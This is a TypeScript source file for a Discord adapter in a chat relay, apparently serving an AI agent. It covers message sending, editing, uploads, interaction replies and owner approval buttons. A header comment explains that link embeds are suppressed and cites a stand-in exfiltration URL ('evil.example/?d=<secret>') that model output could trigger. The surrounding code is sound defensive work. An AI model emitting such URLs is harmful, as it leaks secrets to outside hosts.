/**
 * The Discord side of the stream relay: send/edit/delete/typing over discord.js's REST client
 * (whose queue obeys 429 `retry_after` and the bucket headers), approval buttons, and errors mapped
 * to ChannelError (refused vs unreachable).
 *
 * Addresses (opaque to the relay):
 * - `<channelId>`: a guild text channel, a thread or a DM channel;
 * - `ix:<applicationId>:<token>`: the reply of a slash command or button interaction. The first send
 *   fills the deferred original response, later sends are follow-ups; the token lives 15 minutes.
 *
 * Invariants: every message body carries `allowed_mentions: { parse: [] }`, so `@everyone`, `@here`,
 * role and user mentions in model output are shown but never ping anyone; and the SuppressEmbeds flag
 * (sends, edits, interaction replies, uploads), so no URL in a question, refusal or reply unfurls:
 * Discord's servers would fetch `https://evil.example/?d=<secret>` before the owner said anything.
 */
import { DiscordAPIError, HTTPError, Routes, type REST } from "discord.js";
import { ChannelError, type OutboundFile, type OutboundFileKind } from "../channel.js";
import { chunkMarkdown, type ChunkLimits } from "../common/chunking.js";
import type { ChatAdapter, OutboundOptions } from "../common/stream-relay.js";
import { approveData, denyData, showData } from "../common/approval-buttons.js";

/** Discord's message length limit. */
export const DISCORD_MAX_LENGTH = 2000;
/** Discord's upload limit for bots in unboosted servers and DMs (10 MiB). */
export const DISCORD_FILE_LIMIT = 10 * 1024 * 1024;
/** Message flag that suppresses push notifications (`@silent`). */
const SUPPRESS_NOTIFICATIONS = 1 << 12;
/** Message flag that keeps Discord from fetching and embedding the links of a message. */
export const SUPPRESS_EMBEDS = 1 << 2;
/** Interaction tokens are valid for 15 minutes. */
const INTERACTION_TTL_MS = 15 * 60 * 1000;

/** Mentions are rendered but never resolved into pings. */
export const NO_MENTIONS = { parse: [] as string[] };

/** Maps a discord.js failure to a ChannelError. */
export function toChannelError(err: unknown, what: string): ChannelError {
  if (err instanceof ChannelError) return err;
  if (err instanceof DiscordAPIError)
    return new ChannelError(
      "CHANNEL_REFUSED",
      `Discord refused ${what}: ${err.status} ${err.message} (code ${String(err.code)})`,
      { cause: err },
    );
  if (err instanceof HTTPError)
    return new ChannelError("CHANNEL_UNREACHABLE", `Discord failed ${what}: HTTP ${err.status}`, {
      cause: err,
    });
  return new ChannelError(
    "CHANNEL_UNREACHABLE",
    `Discord unreachable during ${what}: ${(err as Error).message}`,
    {
      cause: err,
    },
  );
}

/** Approve/deny buttons; the custom ids come back as INTERACTION_CREATE (`approve:<id>`). */
export function approvalComponents(opts: Partial<OutboundOptions> & { approvalId: string }): unknown[] {
  const { approvalId: id, approvalHash: hash } = opts;
  return [
    {
      type: 1,
      components: [
        // Approve carries the shown payload's hash prefix (approval-buttons.ts).
        { type: 2, style: 3, label: "Approve", custom_id: approveData(id, hash) },
        { type: 2, style: 4, label: "Deny", custom_id: denyData(id) },
        // Containment's standing answers (`approve:<id>:<hash>:host|session`).
        ...(opts.approvalChoices ?? []).map((c) => ({
          type: 2,
          style: 1,
          label: c === "host" ? "Yes for this host" : "Yes for this session",
          custom_id: approveData(id, hash, c),
        })),
        // A cut question: the press sends the whole text to the owner's DM (`show:<id>`).
        ...(opts.approvalShowAll ? [{ type: 2, style: 2, label: "Show all", custom_id: showData(id) }] : []),
      ],
    },
  ];
}

/** The address of an interaction's reply. */
export function interactionAddress(applicationId: string, token: string): string {
  return `ix:${applicationId}:${token}`;
}

interface InteractionState {
  /** The deferred original response is still empty: the next send fills it. */
  originalPending: boolean;
  expiresAt: number;
}

export class DiscordAdapter implements ChatAdapter {
  private interactions = new Map<string, InteractionState>();
  /** DM channel ids by user id: a DM channel is opened once. */
  private dmChannels = new Map<string, string>();

  constructor(
    private rest: () => REST,
    private limitsOf: () => ChunkLimits,
    private now: () => number = Date.now,
  ) {}

  get limits(): ChunkLimits {
    return this.limitsOf();
  }

  /**
   * Registers a deferred interaction: `originalPending` when the original response (the
   * "thinking…" placeholder) should carry the first reply.
   */
  registerInteraction(address: string, originalPending: boolean): void {
    const now = this.now();
    for (const [k, v] of this.interactions) if (v.expiresAt <= now) this.interactions.delete(k);
    this.interactions.set(address, { originalPending, expiresAt: now + INTERACTION_TTL_MS });
  }

  private body(text: string, opts: Partial<OutboundOptions>): Record<string, unknown> {
    return {
      content: text,
      allowed_mentions: NO_MENTIONS,
      // A message without an approval carries no buttons: an edit that closes a question drops them.
      components: opts.approvalId ? approvalComponents({ ...opts, approvalId: opts.approvalId }) : [],
      flags: SUPPRESS_EMBEDS | (opts.silent ? SUPPRESS_NOTIFICATIONS : 0),
    };
  }

  async send(addr: string, text: string, opts: OutboundOptions): Promise<string> {
    const ix = parseInteraction(addr);
    try {
      if (ix) {
        const state = this.interactions.get(addr);
        if (state?.originalPending) {
          state.originalPending = false;
          // An edit takes SuppressEmbeds only (not the notification flag).
          const body = { ...this.body(text, opts), flags: SUPPRESS_EMBEDS };
          await this.rest().patch(Routes.webhookMessage(ix.app, ix.token, "@original"), {
            body,
            auth: false,
          });
          return "@original";
        }
        const m = (await this.rest().post(Routes.webhook(ix.app, ix.token), {
          body: this.body(text, opts),
          auth: false,
        })) as { id: string };
        return m.id;
      }
      const m = (await this.rest().post(Routes.channelMessages(channelOf(addr)), {
        body: this.body(text, opts),
      })) as { id: string };
      return m.id;
    } catch (err) {
      throw toChannelError(err, "sending a message");
    }
  }

  async edit(addr: string, messageId: string, text: string, opts: OutboundOptions): Promise<void> {
    const ix = parseInteraction(addr);
    const body = { ...this.body(text, opts), flags: SUPPRESS_EMBEDS };
    try {
      if (ix)
        await this.rest().patch(Routes.webhookMessage(ix.app, ix.token, messageId), { body, auth: false });
      else await this.rest().patch(Routes.channelMessage(channelOf(addr), messageId), { body });
    } catch (err) {
      throw toChannelError(err, "editing a message");
    }
  }

  async delete(addr: string, messageId: string): Promise<void> {
    const ix = parseInteraction(addr);
    try {
      if (ix) await this.rest().delete(Routes.webhookMessage(ix.app, ix.token, messageId), { auth: false });
      else await this.rest().delete(Routes.channelMessage(channelOf(addr), messageId));
    } catch (err) {
      throw toChannelError(err, "deleting a message");
    }
  }

  async typing(addr: string): Promise<void> {
    // An interaction shows Discord's own "thinking…" state while deferred.
    if (parseInteraction(addr)) return;
    try {
      await this.rest().post(Routes.channelTyping(channelOf(addr)));
    } catch (err) {
      throw toChannelError(err, "sending the typing indicator");
    }
  }

  maxFileBytes(_kind: OutboundFileKind): number {
    return DISCORD_FILE_LIMIT;
  }

  /** Uploads a file as an attachment; the caption is the message text (the rest follows). */
  async sendFile(addr: string, file: OutboundFile): Promise<string> {
    if (file.data.length > DISCORD_FILE_LIMIT)
      throw new ChannelError(
        "CHANNEL_FILE_TOO_LARGE",
        `${file.name} is ${file.data.length} bytes; Discord takes at most ${DISCORD_FILE_LIMIT}`,
      );
    const chunks = file.caption?.trim() ? chunkMarkdown(file.caption.trim(), this.limits) : [];
    const body = {
      content: chunks[0] ?? "",
      allowed_mentions: NO_MENTIONS,
      flags: SUPPRESS_EMBEDS,
      attachments: [{ id: 0, filename: file.name }],
    };
    const files = [{ name: file.name, data: file.data, ...(file.mime ? { contentType: file.mime } : {}) }];
    const ix = parseInteraction(addr);
    let id: string;
    try {
      const m = (
        ix
          ? await this.rest().post(Routes.webhook(ix.app, ix.token), { body, files, auth: false })
          : await this.rest().post(Routes.channelMessages(channelOf(addr)), { body, files })
      ) as { id: string };
      id = m.id;
    } catch (err) {
      throw toChannelError(err, `uploading ${file.name}`);
    }
    for (const c of chunks.slice(1)) await this.send(addr, c, { markdown: true });
    return id;
  }

  /** The channel id of a target: itself, or the DM channel of `user:<id>` (opened once). */
  async targetChannel(target: string): Promise<string> {
    const user = /^user:(\d+)$/.exec(target);
    if (user) {
      const uid = user[1] ?? "";
      const channelId = this.dmChannels.get(uid) ?? (await this.openDm(uid));
      this.dmChannels.set(uid, channelId);
      return channelId;
    }
    if (!/^\d+$/.test(target))
      throw new ChannelError(
        "CHANNEL_UNKNOWN_TARGET",
        `invalid Discord target "discord:${target}" (expected discord:<channelId> or discord:user:<userId>)`,
      );
    return target;
  }

  /** Opens (or reuses) the DM channel with a user; returns its channel id. */
  async openDm(userId: string): Promise<string> {
    try {
      const ch = (await this.rest().post(Routes.userChannels(), { body: { recipient_id: userId } })) as {
        id: string;
      };
      return ch.id;
    } catch (err) {
      throw toChannelError(err, `opening a DM with user ${userId}`);
    }
  }
}

function parseInteraction(addr: string): { app: string; token: string } | undefined {
  if (!addr.startsWith("ix:")) return undefined;
  const i = addr.indexOf(":", 3);
  return { app: addr.slice(3, i), token: addr.slice(i + 1) };
}

function channelOf(addr: string): string {
  if (!/^\d{1,25}$/.test(addr))
    throw new ChannelError(
      "CHANNEL_UNKNOWN_TARGET",
      `invalid Discord channel "${addr}" (expected a numeric id)`,
    );
  return addr;
}
